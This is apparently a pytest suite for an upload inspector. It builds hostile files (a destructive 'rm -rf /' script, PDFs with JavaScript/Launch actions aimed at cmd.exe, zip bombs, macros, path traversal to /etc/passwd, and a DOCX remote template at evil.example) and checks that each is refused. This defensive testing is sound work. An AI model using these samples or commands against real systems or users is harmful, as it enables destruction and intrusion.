"""Uploads: what is a file really, and is it harmless (PL-20, W9). Every hostile sample is made here and is real."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from docx import Document
from openpyxl import Workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from services.documents.inspection.inspector import Finding, Inspector
from services.documents.inspection.malware import Clamd, Scan, ScannerAway
from services.documents.inspection.names import safe_name
from tests.factories.documents import heic, portrait

ANY = ("pdf", "image", "docx", "xlsx")
LIMIT = 5 * 1024 * 1024


@pytest.fixture(scope="module")
def inspector(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Inspector]:
    made = Inspector(folder=tmp_path_factory.mktemp("probe"))
    yield made
    made.close()


@pytest.fixture
def inspect(inspector: Inspector, tmp_path: Path) -> Callable[..., Finding]:
    def check(content: bytes, *, accepted: tuple[str, ...] = ANY, limit: int = LIMIT) -> Finding:
        path = tmp_path / "upload"
        path.write_bytes(content)
        return inspector.inspect(path, accepted=accepted, limit=limit)

    return check


def pdf(change: Callable[[PdfWriter], object] = lambda writer: None, *, pages: int = 2) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def docx(changes: dict[str, bytes] | None = None) -> bytes:
    target = io.BytesIO()
    document = Document()
    document.add_paragraph("正文")
    document.save(target)
    return rezipped(target.getvalue(), changes or {})


def xlsx() -> bytes:
    target = io.BytesIO()
    Workbook().save(target)
    return target.getvalue()


def rezipped(package: bytes, changes: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, changes.get(name) or old.read(name))
        for name in changes.keys() - set(old.namelist()):
            new.writestr(name, changes[name])
    return target.getvalue()


def action(kind: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        entry = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/F"): TextStringObject("cmd.exe")})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(entry)

    return change


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF", "BMP", "TIFF", "WEBP", "AVIF"])
@pytest.mark.req("HB-66")
def test_any_picture_format_is_accepted_as_a_picture(inspect: Callable[..., Finding], kind: str) -> None:
    """A photo may have any of the usual formats; what counts is its content."""
    assert inspect(portrait(kind), accepted=("image",)) == Finding(None, kind.lower())


@pytest.mark.req("HB-66")
def test_a_photograph_of_a_telephone_is_accepted_with_a_copy(inspect: Callable[..., Finding]) -> None:
    """HEIC is a picture; since nothing else reads it, the probe leaves a JPEG of the same picture beside it."""
    found = inspect(heic(), accepted=("image",))
    assert (found.reason, found.kind) == (None, "heic")
    assert found.copy is not None
    with Image.open(found.copy) as copy:
        assert (copy.format, copy.size) == ("JPEG", (295, 413))
        assert copy.getpixel((2, 2)) == pytest.approx((0x9D, 0xB7, 0xD5), abs=6)
    found.copy.unlink()
    assert inspect(portrait("JPEG")).copy is None


def resized(content: bytes, edge: int) -> bytes:
    """The same picture, which says that it is larger."""
    at = content.index(b"ispe") + 8
    return content[:at] + struct.pack(">II", edge, edge) + content[at + 8 :]


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content[: len(content) // 2],
        lambda content: content[:40],
        lambda content: content[:200] + bytes(100) + content[300:],
        lambda content: resized(content, 9_000),
        lambda content: resized(content, 60_000),
    ],
    ids=["half", "head", "holes", "larger", "flood"],
)
def test_hostile_photographs_are_refused_without_a_copy(
    inspect: Callable[..., Finding], tmp_path: Path, change: Callable[[bytes], bytes]
) -> None:
    """HEIC that is cut, damaged or says that it is larger than it is is refused, and nothing of it is handed on."""
    assert inspect(change(heic())).reason in ("broken", "type_unknown", "too_many_pixels", "too_complex")
    assert [path.name for path in tmp_path.iterdir()] == ["upload"]


@pytest.mark.req("PL-20")
def test_documents_are_told_by_their_content(inspect: Callable[..., Finding]) -> None:
    """PDF, DOCX and XLSX are recognised without a look at their names."""
    assert inspect(pdf()) == Finding(None, "pdf", 2)
    assert inspect(docx()) == Finding(None, "docx")
    assert inspect(xlsx()) == Finding(None, "xlsx")


@pytest.mark.req("PL-20")
def test_a_file_of_another_type_than_the_slot_takes_is_refused(inspect: Callable[..., Finding]) -> None:
    """A picture is no PDF, whatever it is called."""
    assert inspect(portrait(), accepted=("pdf",)).reason == "type_not_accepted"
    assert inspect(xlsx(), accepted=("docx",)).reason == "type_not_accepted"


@pytest.mark.req("PL-20", "HB-66")
def test_size_counts_up_to_and_including_the_limit(inspect: Callable[..., Finding]) -> None:
    """A file of exactly the limit passes, one byte more does not; an empty one never."""
    content = portrait()
    assert inspect(content, limit=len(content)).reason is None
    assert inspect(content, limit=len(content) - 1).reason == "too_large"
    assert inspect(b"").reason == "empty"


@pytest.mark.parametrize(
    "content", [b"MZ\x90\x00" + b"\0" * 500, b"\x7fELF\x02\x01\x01" + b"\0" * 500, b"#!/bin/sh\nrm -rf /\n"]
)
def test_programs_are_refused(inspect: Callable[..., Finding], content: bytes) -> None:
    """A renamed executable is refused as what it is."""
    assert inspect(content).reason == "executable"


@pytest.mark.parametrize("content", [b"hello", b"<html><script>alert(1)</script></html>", b"<svg/>", bytes(range(256))])
def test_unknown_content_is_refused(inspect: Callable[..., Finding], content: bytes) -> None:
    """What is none of the known types is refused."""
    assert inspect(content).reason == "type_unknown"


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7\n" + b"x" * 4000 + b"%%EOF", b"%PDF-1.7\n%%EOF\n", pdf()[:300], pdf() + b"PK\x03\x04" * 2000]
)
def test_a_pdf_with_the_wrong_content_is_refused(inspect: Callable[..., Finding], content: bytes) -> None:
    """A head that says PDF before something else, a cut file or a second file behind the end is not a PDF."""
    assert inspect(content).reason == "broken"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (lambda writer: writer.encrypt("secret"), "encrypted"),
        (lambda writer: writer.encrypt("", "owner"), "encrypted"),
        (action("/JavaScript"), "active_content"),
        (action("/Launch"), "active_content"),
        (action("/GoToR"), "active_content"),
        (action("/SubmitForm"), "active_content"),
        (lambda writer: writer.add_attachment("a.exe", b"MZ"), "embedded_files"),
    ],
)
def test_pdfs_that_act_hide_or_lock_are_refused(
    inspect: Callable[..., Finding], change: Callable[[PdfWriter], object], reason: str
) -> None:
    """JavaScript, launch actions, files inside and passwords have no place in evidence."""
    assert inspect(pdf(change)).reason == reason


def test_an_action_named_by_reference_and_escapes_is_found(inspect: Callable[..., Finding]) -> None:
    """Spelling /JavaScript with escapes and keeping the action's kind in an object of its own hides nothing."""

    def change(writer: PdfWriter) -> None:
        kind = writer._add_object(NameObject("/Java#53cript"))
        entry = DictionaryObject({NameObject("/S"): kind})
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(entry)

    content = pdf(change).replace(b"/Java#2353cript", b"/Java#53cript")
    assert b"/Java#53cript" in content
    assert b"/JavaScript" not in content
    assert inspect(content).reason == "active_content"


def test_ordinary_links_in_a_pdf_are_kept(inspect: Callable[..., Finding]) -> None:
    """A paper with a web address in its references is accepted."""
    assert inspect(pdf(action("/URI"))).reason is None


def test_zip_bombs_are_refused(inspect: Callable[..., Finding]) -> None:
    """A small DOCX that unpacks to hundreds of megabytes is refused before it does."""
    assert inspect(docx({"word/media/x.xml": b"\0" * (300 * 1024 * 1024)})).reason == "archive_bomb"
    assert inspect(docx({f"word/x{i}.xml": b"x" for i in range(5000)})).reason == "archive_bomb"


def test_a_zip_that_lies_about_its_sizes_is_refused(inspect: Callable[..., Finding]) -> None:
    """The sizes in the directory of the archive are not believed."""
    content = bytearray(docx({"word/big.xml": b"a" * 1000}))
    at = content.rfind(b"word/big.xml") - 46 + 24
    content[at : at + 4] = struct.pack("<I", 10)
    assert inspect(bytes(content)).reason in ("broken", "archive_bomb")


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"word/vbaProject.bin": b"x"}, "macros"),
        ({"word/embeddings/oleObject1.bin": b"x"}, "embedded_files"),
        ({"word/media/image1.png": b"MZ\x90\x00"}, "executable"),
        ({"word/evil.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, "active_content"),
        ({"../../etc/passwd": b"x"}, "broken"),
        (
            {
                "word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                b'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                b"</Relationships>"
            },
            "external_references",
        ),
    ],
)
def test_office_files_that_act_or_reach_out_are_refused(
    inspect: Callable[..., Finding], changes: dict[str, bytes], reason: str
) -> None:
    """Macros, embedded objects, programs, entities, foreign paths and templates fetched on opening are refused."""
    assert inspect(docx(changes)).reason == reason


def test_macro_content_under_a_plain_name_is_refused(inspect: Callable[..., Finding]) -> None:
    """A DOCM that was renamed is told by its declared content type."""
    package = docx()
    with zipfile.ZipFile(io.BytesIO(package)) as opened:
        types = opened.read("[Content_Types].xml")
    types = types.replace(b"wordprocessingml.document.main", b"x").replace(
        b"application/vnd.openxmlformats-officedocument.x+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert inspect(rezipped(package, {"[Content_Types].xml": types})).reason == "macros"


def test_a_plain_zip_is_not_an_office_file(inspect: Callable[..., Finding]) -> None:
    """An archive is not accepted for its first two letters."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("a.txt", "x")
    assert inspect(target.getvalue()).reason == "type_unknown"


def test_pixel_floods_and_cut_pictures_are_refused(inspect: Callable[..., Finding]) -> None:
    """A tiny file that decodes to a hundred million pixels is refused, and so is half a picture."""
    target = io.BytesIO()
    Image.new("1", (12_000, 9_000)).save(target, "PNG")
    assert inspect(target.getvalue()).reason == "too_many_pixels"
    content = portrait("JPEG")
    assert inspect(content[: len(content) // 2]).reason == "broken"


def test_the_probe_goes_on_after_a_file_that_was_too_much(inspect: Callable[..., Finding]) -> None:
    """A file that makes a parser recurse or eat memory is refused, and the next one is checked as usual."""
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    assert inspect(deep).reason in ("broken", "too_complex")
    assert inspect(pdf()).reason is None


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\temp\\照片.jpg", "照片.jpg"),
        ("学历\r\n证书\x00.pdf", "学历证书.pdf"),
        ("a\u202efdp.exe", "afdp.exe"),
        ('a<b>"c".pdf', "a_b_c_.pdf"),
        ("...", "file"),
        ("con.pdf", "file_con.pdf"),
        ("长" * 300 + ".pdf", "长" * 116 + ".pdf"),
        ("䶮𬭎.png", "䶮𬭎.png"),
    ],
)
@pytest.mark.req("PL-20")
def test_names_are_made_safe(given: str, kept: str) -> None:
    """A kept name has no path, no control or direction characters, and a bounded length."""
    assert safe_name(given) == kept


def clamd(answer: bytes) -> tuple[str, list[bytes], threading.Thread]:
    """A server that speaks clamd's INSTREAM, for one file."""
    server = socket.create_server(("127.0.0.1", 0))
    seen: list[bytes] = []

    def serve() -> None:
        connection, _ = server.accept()
        with connection, connection.makefile("rb") as stream:
            assert stream.read(10) == b"zINSTREAM\0"
            while length := struct.unpack("!I", stream.read(4))[0]:
                seen.append(stream.read(length))
            connection.sendall(answer)
        server.close()

    thread = threading.Thread(target=serve)
    thread.start()
    return f"tcp://127.0.0.1:{server.getsockname()[1]}", seen, thread


@pytest.mark.parametrize(
    ("answer", "reason", "scan"),
    [(b"stream: OK\0", None, Scan.CLEAN), (b"stream: Eicar-Test-Signature FOUND\0", "malware", Scan.INFECTED)],
)
def test_a_configured_scanner_decides(tmp_path: Path, answer: bytes, reason: str | None, scan: Scan) -> None:
    """Every byte goes to the scanner, and what it finds is refused."""
    url, seen, thread = clamd(answer)
    inspector = Inspector(folder=tmp_path, scanner=Clamd(url, timeout=5))
    path = tmp_path / "upload"
    path.write_bytes(portrait())
    found = inspector.inspect(path, accepted=ANY, limit=LIMIT)
    thread.join()
    inspector.close()
    assert (found.reason, found.scan) == (reason, scan)
    assert b"".join(seen) == portrait()


def test_a_scanner_that_is_away_is_a_fault_of_the_world(tmp_path: Path) -> None:
    """Nothing is called clean because the scanner could not be asked."""
    path = tmp_path / "upload"
    path.write_bytes(b"x")
    with pytest.raises(ScannerAway):
        Clamd("tcp://127.0.0.1:1", timeout=1).scan(path)


def test_without_a_scanner_the_verdict_says_so(inspect: Callable[..., Finding]) -> None:
    """A file that nobody scanned is not called scanned."""
    assert inspect(pdf()).scan is Scan.NOT_SCANNED
